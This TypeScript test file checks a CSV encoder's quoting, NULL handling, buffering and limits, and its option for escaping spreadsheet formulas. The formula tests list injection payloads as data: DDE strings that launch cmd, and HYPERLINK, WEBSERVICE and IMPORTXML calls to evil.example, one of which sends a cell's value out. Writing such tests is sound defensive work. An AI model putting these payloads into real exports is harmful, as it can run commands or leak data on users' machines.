import fc from 'fast-check';
import { CsvEncoder, type CsvOptions } from '../../../src/query/encode/csv-encoder.js';
import { Problem } from '../../../src/common/problem.js';
import {
  bytesCell,
  type Cell,
  columnsOf,
  CSV,
  cutting,
  dataRow,
  encodeAll,
  failureOf,
  named,
  OPTIONS,
  table,
  textCell,
} from './data-rows.js';

interface How extends Partial<CsvOptions> {
  readonly cuts?: readonly number[];
  readonly bufferBytes?: number;
}

function encode(names: readonly string[], rows: readonly (readonly Cell[])[], how: How = {}) {
  const { cuts = [], bufferBytes = 128 * 1024, ...options } = how;
  const encoder = new CsvEncoder({ ...OPTIONS, bufferBytes }, { ...CSV, ...options });
  const bytes = encodeAll(encoder, names.map(named), rows, cuts);
  return new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(bytes);
}

/** One value, as the only one of its row. */
function cell(value: Cell, options: Partial<CsvOptions> = {}): string {
  const text = encode(['v'], [[value]], { ...options, header: false });
  expect(text.endsWith('\r\n')).toBe(true);
  return text.slice(0, -2);
}

/** What the bytes should be, the slow way. */
function reference(rows: readonly (readonly (string | null)[])[], options: CsvOptions): string {
  return rows
    .map((row) => `${row.map((value) => field(value, options)).join(options.delimiter)}\r\n`)
    .join('');
}

function field(value: string | null, { delimiter, nullText }: CsvOptions): string {
  if (value === null) return nullText;
  const isQuoted =
    value === '' ||
    value === nullText ||
    value === '\\.' ||
    /["\r\n]|^[ \t]|[ \t]$/.test(value) ||
    value.includes(delimiter) ||
    // U+F000 to U+FFFF: their first byte is that of a byte order mark.
    /^[\uf000-\uffff]/.test(value);
  return isQuoted ? `"${value.replaceAll('"', '""')}"` : value;
}

/** RFC 4180 by the letter; a field that is not quoted and is the text for NULL is NULL. */
function parse(text: string, { delimiter, nullText }: CsvOptions): (string | null)[][] {
  const rows: (string | null)[][] = [];
  let row: (string | null)[] = [];
  let at = 0;
  while (at < text.length) {
    let value = '';
    if (text[at] === '"') {
      for (at += 1; text[at] !== '"' || text[at + 1] === '"'; at += 1) {
        if (at >= text.length) throw new Error('a quote is left open');
        if (text[at] === '"') at += 1;
        value += text.charAt(at);
      }
      at += 1;
      row.push(value);
    } else {
      while (text[at] !== delimiter && !text.startsWith('\r\n', at)) {
        if (at >= text.length || /["\r\n]/.test(text[at]!)) throw new Error('not RFC 4180');
        value += text.charAt(at);
        at += 1;
      }
      row.push(value === nullText ? null : value);
    }
    if (text[at] === delimiter) {
      at += 1;
    } else {
      if (!text.startsWith('\r\n', at)) throw new Error('no line end');
      at += 2;
      rows.push(row);
      row = [];
    }
  }
  return rows;
}

const settings = fc.record({
  delimiter: fc.constantFrom(',' as const, ';' as const, '\t' as const, '|' as const),
  nullText: fc.constantFrom('', 'NULL', '\\N', '-5'),
  header: fc.boolean(),
  bom: fc.boolean(),
});

describe('a CSV answer', () => {
  it('is what the rules make of it, and is read as the values that went in', () => {
    fc.assert(
      fc.property(table(textCell), settings, cutting, ({ width, rows }, options, how) => {
        const names = columnsOf(width).map(({ name }) => name);
        const text = encode(names, rows, { ...options, ...how });
        const all = options.header ? [names, ...rows] : rows;
        const full = { ...CSV, ...options };
        expect(text).toBe((options.bom ? '\ufeff' : '') + reference(all, full));
        if (width === 0) return;
        expect(parse(options.bom ? text.slice(1) : text, full)).toEqual(all);
      }),
      { numRuns: 1500 },
    );
  });

  it('is the same for each size of the output’s buffers and each cut between two rows', () => {
    const names = ['a', 'b, "c"', ''];
    const rows = [
      ['plain', null, ''],
      [`${'x'.repeat(70)},`, '"quoted"', '\r\n'],
      [null, null, null],
      ['😀 東京 é', ' blank', `${'y'.repeat(50)}"${'z'.repeat(50)}`],
    ];
    const expected = reference([names, ...rows], CSV);
    for (let bufferBytes = 1; bufferBytes <= 900; bufferBytes += 1) {
      const cuts = [[], [1], [2], [3], [1, 2, 3]][bufferBytes % 5]!;
      expect(encode(names, rows, { bufferBytes, cuts })).toBe(expected);
    }
  });

  it('has each kind of byte at each place of a text of each length', () => {
    const rows: string[][] = [];
    for (let length = 1; length <= 40; length += 1) {
      for (let at = 0; at < length; at += 1) {
        for (const special of ['"', ',', '\n', '\r', ' ', '\t', ';', '\u0001', '\\']) {
          rows.push([`${'a'.repeat(at)}${special}${'b'.repeat(length - at - 1)}`]);
        }
      }
    }
    expect(encode(['v'], rows)).toBe(reference([['v'], ...rows], CSV));
  });

  it('is UTF-8 although the values are not', () => {
    fc.assert(
      fc.property(table(bytesCell), cutting, ({ width, rows }, how) => {
        const names = columnsOf(width).map(({ name }) => name);
        const text = encode(names, rows, how);
        if (width === 0) return;
        const decoded = rows.map((row) => row.map((value) => value.toString()));
        expect(parse(text, CSV)).toEqual([names, ...decoded]);
      }),
      { numRuns: 500 },
    );
  });

  it('tells NULL from the empty text, and from a text that looks like the one for NULL', () => {
    expect(cell(null)).toBe('');
    expect(cell('')).toBe('""');
    expect(cell(null, { nullText: 'NULL' })).toBe('NULL');
    expect(cell('NULL', { nullText: 'NULL' })).toBe('"NULL"');
    expect(cell('NULLS', { nullText: 'NULL' })).toBe('NULLS');
    expect(cell('', { nullText: 'NULL' })).toBe('""');
  });

  it('may have no column, or as many as PostgreSQL allows', () => {
    expect(encode([], [[], []])).toBe('\r\n\r\n\r\n');
    const wide = Array.from({ length: 1664 }, (_none, index) => (index % 3 ? `v"${index}` : null));
    const names = wide.map((_value, index) => `n${index}`);
    const options = { ...CSV, nullText: 'x'.repeat(32) };
    expect(encode(names, [wide, wide], { ...options, bufferBytes: 1000 })).toBe(
      reference([names, wide, wide], options),
    );
  });

  it('may have values that are larger than any buffer', () => {
    const large = `${'"'.repeat(300_000)}${'x'.repeat(1_000_001)}`;
    expect(encode(['a', 'b'], [['1', large]])).toBe(
      reference(
        [
          ['a', 'b'],
          ['1', large],
        ],
        CSV,
      ),
    );
  });

  it('has odd and duplicate names of columns in its header', () => {
    const names = ['a', 'a', '?column?', '"q"', 'x,y', '', '\\.', ' ', '__proto__', '\n'];
    expect(encode(names, [])).toBe(reference([names], CSV));
  });

  it('has no byte at all where no statement gives rows', () => {
    const encoder = new CsvEncoder(OPTIONS, { ...CSV, bom: true });
    encoder.complete({ command: 'CREATE TABLE', rowCount: 0 });
    encoder.notice();
    encoder.done();
    expect(encoder.take()).toEqual([]);
  });

  it('leaves out statements that give no rows', () => {
    const encoder = new CsvEncoder(OPTIONS, CSV);
    encoder.complete({ command: 'CREATE TABLE', rowCount: 0, statement: 1 });
    encoder.columns([named('a')], 2);
    encoder.rows(dataRow(['1']), 1);
    encoder.complete({ command: 'SELECT 1', rowCount: 1, statement: 2 });
    encoder.complete({ command: 'DROP TABLE', rowCount: 0, statement: 3 });
    encoder.done();
    expect(Buffer.concat([...encoder.take()]).toString()).toBe('a\r\n1\r\n');
  });

  it('refuses a second result', () => {
    const encoder = new CsvEncoder(OPTIONS, CSV);
    encoder.columns([named('a')], 1);
    encoder.complete({ command: 'SELECT 0', rowCount: 0, statement: 1 });
    const failure = failureOf(() => {
      encoder.columns([named('b')], 4);
    });
    expect(failure).toMatchObject({ code: 'statement-unsupported', details: { statement: 4 } });
    expect(failure.message).toContain('application/x-ndjson');
  });

  it('throws what it cannot say', () => {
    const encoder = new CsvEncoder(OPTIONS, CSV);
    const problem = new Problem('query-failed', { detail: 'division by zero' });
    expect(failureOf(() => encoder.error(problem))).toBe(problem);
  });

  it('ends early without a word only where the caller asked for that many rows', () => {
    const stopped = { reason: 'max-rows' as const, detail: 'There are more rows than 1.' };
    const end = { command: null, rowCount: 1, stopped };
    const asked = new CsvEncoder(OPTIONS, { ...CSV, maxRowsAsked: true });
    expect(() => {
      asked.complete(end);
    }).not.toThrow();
    const notAsked = new CsvEncoder(OPTIONS, CSV);
    const failure = failureOf(() => {
      notAsked.complete(end);
    });
    expect(failure.code).toBe('result-too-large');
  });

  it('stops at the limits', () => {
    const limits = { ...OPTIONS.limits, maxBytes: 10 };
    const encoder = new CsvEncoder({ ...OPTIONS, limits }, CSV);
    encoder.columns([named('a')], undefined);
    encoder.rows(dataRow(['12345678']), 1);
    const failure = failureOf(() => {
      encoder.rows(dataRow(['1']), 1);
    });
    expect(failure.code).toBe('result-too-large');
    expect(encoder.progress).toMatchObject({ rows: 1, bytes: 10 });
  });
});

describe('formulas', () => {
  const escaped = [
    '=1+1',
    '==1',
    '=',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    '=WEBSERVICE("http://evil.example")',
    '=IMPORTXML("http://evil.example","//a")',
    '=DDE("cmd";"/C calc";"x")',
    '+1+1',
    "+cmd|' /C calc'!A0",
    '+',
    '++5',
    '+5+5',
    '+1.5e3+A1',
    '-1-1',
    '-',
    '--5',
    '-5-5',
    "-2+3+cmd|' /C calc'!A0",
    '-5%',
    '-1,234.50',
    '-$5',
    '-Infinity',
    '-5e',
    '-5e+',
    '-5.5.5',
    '-.',
    '-1 days',
    '-00:05:00',
    '-A1',
    '-5 ',
    '+49 30 1234',
    '@SUM(1+1)',
    '@',
    '@example.com',
    '\t=1+1',
    '\tplain',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '   @SUM(A1)',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
    ' ＝1+1',
  ];
  const kept = [
    '-5',
    '+5',
    '-5.25',
    '+1.5e3',
    '-1.5E-10',
    '-.5',
    '-5.',
    '   -5',
    '0',
    '12345678901234567890.5',
    '1+1',
    'a=b',
    "'=1",
    'me@example.com',
    'text',
    '＃',
    '東京',
    '\ufeff',
    '',
    ' ',
  ];

  it.each(escaped)('%j is put behind an apostrophe, in quotes', (value) => {
    expect(cell(value, { escapeFormulas: true })).toBe(`"'${value.replaceAll('"', '""')}"`);
  });

  it.each(kept)('%j stays what it is', (value) => {
    expect(cell(value, { escapeFormulas: true })).toBe(cell(value));
  });

  it('are left alone where nobody asked', () => {
    expect(cell('=1+1')).toBe('=1+1');
  });

  it('cannot hide in the name of a column', () => {
    expect(encode(['=1+1', 'b'], [], { escapeFormulas: true })).toBe(`"'=1+1",b\r\n`);
  });

  it('are the only values that are changed', () => {
    fc.assert(
      fc.property(table(textCell), cutting, ({ width, rows }, how) => {
        const names = columnsOf(width).map(({ name }) => name);
        const text = encode(names, rows, { ...how, escapeFormulas: true });
        if (width === 0) return;
        const expected = rows.map((row) =>
          row.map((value) => (value !== null && looksLikeFormula(value) ? `'${value}` : value)),
        );
        expect(parse(text, CSV)).toEqual([names, ...expected]);
      }),
      { numRuns: 500 },
    );
  });
});

function looksLikeFormula(value: string): boolean {
  return (
    /^ *[=+\-@\t\r\n＝＋－＠]/u.test(value) &&
    !/^ *[+-](?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$/.test(value)
  );
}
